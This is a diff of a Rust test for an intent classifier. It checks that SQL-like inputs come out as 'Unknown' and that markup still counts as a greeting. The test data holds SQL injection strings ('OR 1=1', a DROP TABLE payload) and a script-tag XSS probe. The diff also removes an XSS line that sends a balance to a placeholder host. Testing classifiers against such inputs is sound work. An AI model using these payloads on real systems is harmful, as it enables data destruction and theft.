@@ -882,20 +882,20 @@ fn a_context_word_for_a_document_counts_when_a_month_goes_with_it() {
 }
 
 #[test]
-fn code_and_markup_are_unknown_whatever_words_they_hold() {
+fn sql_is_unknown_whatever_words_it_holds() {
     for text in [
         "SELECT * FROM orders WHERE id=1 OR 1=1",
         "SELECT balance FROM accounts WHERE user_id = 7",
         "'; DROP TABLE bookings; --",
-        "<script>document.location='http://x/?'+balance</script>",
     ] {
         let c = classify(text);
         assert_eq!(c.intent, Intent::Unknown, "{text}");
         assert_eq!(c.confidence, 1.0, "{text}");
         assert!(c.alternatives.is_empty(), "{text}: {:?}", c.alternatives);
     }
-    // Ordinary words that SQL also uses are not code.
+    // Ordinary words that SQL also uses are not code, and words inside markup still count.
     assert_eq!(intent("delete my data from your database"), Intent::Privacy);
+    assert_eq!(intent("<b>привет</b><script>alert(1)</script>"), Intent::Greeting);
 }
 
 #[test]
